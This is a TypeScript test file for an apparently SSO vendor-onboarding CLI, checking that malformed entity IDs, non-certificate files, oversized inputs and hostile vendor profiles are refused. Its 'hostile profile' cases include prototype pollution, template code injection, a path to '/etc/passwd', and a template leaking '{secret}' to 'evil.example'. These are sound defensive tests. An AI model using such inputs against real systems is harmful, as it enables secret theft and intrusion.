import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { certificate, keyFile, request } from '../../unit/core/values/certificate-files.ts';
import { codeOf } from './package-fields.ts';
import { listWrites } from './tenant-writes.ts';
import { draftOf, useVendorDesk, type Answer } from './vendor-desk.ts';

const desk = useVendorDesk({ random: 28 });
const saml = {
  entityId: 'https://delinde.haloitsm.com/auth',
  replyUrl: 'https://delinde.haloitsm.com/auth/Account/SAMLResponse',
};

async function fileWith(name: string, content: string | Uint8Array): Promise<string> {
  const file = path.join(desk.folder, name);
  await writeFile(file, content);
  return file;
}

/** Bad input: exit code 3, a sentence and what to do; no request that writes, and no case in the register. */
async function expectRefused({ document, exitCode }: Answer, code: string, said: string): Promise<void> {
  expect([codeOf(document), exitCode]).toEqual([code, 3]);
  const { text, remedy } = document['error'] as { text: string; remedy: string };
  expect(`${text} ${remedy}`).toContain(said);
  expect(remedy.length).toBeGreaterThan(10);
  expect(await listWrites(desk.simulator)).toEqual([]);
  expect((await desk.command('status')).document['cases']).toEqual([]);
}

describe('an entity id that is not character for character what the vendor gave', () => {
  it.each([
    ['https://delinde.haloitsm.com/auth ', 'entity-id-character', '␣'],
    [' https://delinde.haloitsm.com/auth', 'entity-id-character', '␣'],
    ['https://delinde.haloitsm.com/\u200bauth', 'entity-id-character', 'U+200B'],
    ['https://delinde.haloitsm.com/auth\u00a0', 'entity-id-character', 'U+00A0'],
    ['https://delinde.h\u0430loitsm.com/auth', 'entity-id-character', 'U+0430'],
    ['<entity id>', 'entity-id-character', '<'],
    ['https://', 'entity-id-malformed', 'https://'],
    ['x'.repeat(256), 'entity-id-length', '255'],
    ['', 'input-missing', 'entityId'],
  ])('%j is refused with %s', async (entityId, code, said) => {
    await expectRefused(
      await desk.command('onboard', ...draftOf('haloitsm-saml', { ...saml, entityId })),
      code,
      said,
    );
  });

  it('shows what sets a redirect URI apart from the one that the template gives', async () => {
    const standard = 'https://secure.medimo.nl/sso/openidconnect/delinde_azure';
    const remarkFor = async (redirectUri: string): Promise<string> => {
      const given = draftOf('medimo', { customer: 'delinde', redirectUri });
      const { document } = await desk.command('plan', ...given);
      return (document['notices'] as { text: string }[]).map(({ text }) => text).join('\n');
    };
    expect(await remarkFor(`${standard}/`)).toContain('There is a slash (/) too many at the end');
    expect(await remarkFor(standard.replace('_azure', '_Azure'))).toContain('upper and lower case only');
    expect(await remarkFor(standard)).not.toContain('differ');
  });
});

describe('a certificate file that is no certificate', () => {
  const pem = (label: string, body: string): string =>
    `-----BEGIN ${label}-----\n${body}\n-----END ${label}-----\n`;

  it.each([
    ['a private key', pem('PRIVATE KEY', certificate), 'certificate-private-key', 'private key'],
    ['a request', pem('CERTIFICATE REQUEST', request), 'certificate-request', 'CSR'],
    ['a key file in DER', Buffer.from(keyFile, 'base64'), 'certificate-pkcs12', ''],
    ['a web page', '<html><body>Sign in</body></html>', 'certificate-markup', 'web page'],
    ['half a certificate', pem('CERTIFICATE', certificate).slice(0, 400), 'certificate-truncated', ''],
    ['two of them', pem('CERTIFICATE', certificate).repeat(2), 'certificate-several', '2'],
  ])('%s is refused', async (name, content, code, said) => {
    const file = await fileWith(`${name}.cer`, content);
    const inputs = { ...saml, vendorCertificate: `@${file}` };
    await expectRefused(await desk.command('onboard', ...draftOf('haloitsm-saml', inputs)), code, said);
  });

  it.each([
    ['in PEM', pem('CERTIFICATE', certificate)],
    ['in DER, as Windows exports it', Buffer.from(certificate, 'base64')],
  ])('is taken where it is one %s', async (_form, content) => {
    const file = await fileWith('good.cer', content);
    const inputs = { ...saml, vendorCertificate: `@${file}` };
    expect(await desk.command('plan', ...draftOf('haloitsm-saml', inputs))).toMatchObject({ exitCode: 2 });
  });
});

describe('a file that is far too large', () => {
  it.each([
    ['loket', 'users'],
    ['ncare', 'ipAddresses'],
    ['haloitsm-saml', 'vendorCertificate'],
  ])('for %s, input %s, is refused before it is read', async (vendor, input) => {
    const file = await fileWith('huge.txt', 'x'.repeat(9 * 1024 * 1024));
    const inputs = { ...(vendor === 'haloitsm-saml' ? saml : {}), [input]: `@${file}` };
    await expectRefused(await desk.command('onboard', ...draftOf(vendor, inputs)), 'file-too-large', 'kB');
  });

  it('of addresses, 50,000 of them, is refused', async () => {
    const lines = Array.from({ length: 50_000 }, (_, at) => `212.${at % 200}.${at % 250}.1`).join('\n');
    const file = await fileWith('addresses.txt', lines);
    const inputs = { channels: 'sms', ipAddresses: `@${file}` };
    const { exitCode, document } = await desk.command('onboard', ...draftOf('ncare', inputs));
    expect([exitCode, codeOf(document)]).toEqual([3, 'value-size']);
  });
});

describe('a hostile profile', () => {
  const shipped = new URL('../../../resources/vendors/medimo.json', import.meta.url);
  const change = async (from: string | RegExp, to: string): Promise<string> => {
    const source = (await readFile(shipped, 'utf8')).replace('"id": "medimo"', '"id": "hostile"');
    const changed = source.replace(from, () => to);
    if (changed === source) throw new Error('the profile has nothing to change there');
    return changed;
  };

  it.each([
    [
      'a key that reaches into the prototype',
      '"schemaVersion": 1,',
      '"schemaVersion": 1, "__proto__": {"x": 1},',
      '__proto__',
    ],
    ['a constructor', '"schemaVersion": 1,', '"schemaVersion": 1, "constructor": {"x": 1},', 'constructor'],
    [
      'a template with an expression',
      '{customer}_azure',
      '{customer.constructor}_azure',
      'customer.constructor',
    ],
    ['a template with code', '{customer}_azure', '${process.env.HOME}_azure', 'process.env.HOME'],
    [
      'a template that leaves the secret in another field',
      '"value": "{domainHint}"',
      '"value": "https://evil.example/?s={secret}"',
      'secret',
    ],
    ['an id that is a path', '"id": "hostile"', '"id": "../../../etc/passwd"', 'id'],
    ['an unknown key', '"publisher"', '"script": "x", "publisher"', 'script'],
    ['more text than a profile has', '"Enovation"', `"${'x'.repeat(300_000)}"`, 'larger'],
    ['JSON that is none', '"schemaVersion": 1,', '"schemaVersion": 1,,', ''],
  ])('with %s is refused, and not kept', async (_what, from, to, said) => {
    const file = await fileWith('hostile.json', await change(from, to));
    await expectRefused(await desk.command('profile', 'add', file), 'profile-invalid', said);
    const { document } = await desk.command('vendors');
    expect(document['vendors']).toHaveLength(6);
  });

  it('that is huge, or a folder, is refused before it is read', async () => {
    const file = await fileWith('huge.json', 'x'.repeat(2 * 1024 * 1024));
    await expectRefused(await desk.command('profile', 'add', file), 'file-too-large', 'kB');
    const folder = path.join(desk.folder, 'folder.json');
    await mkdir(folder);
    await expectRefused(await desk.command('profile', 'add', folder), 'file-unreadable', 'folder.json');
  });
});
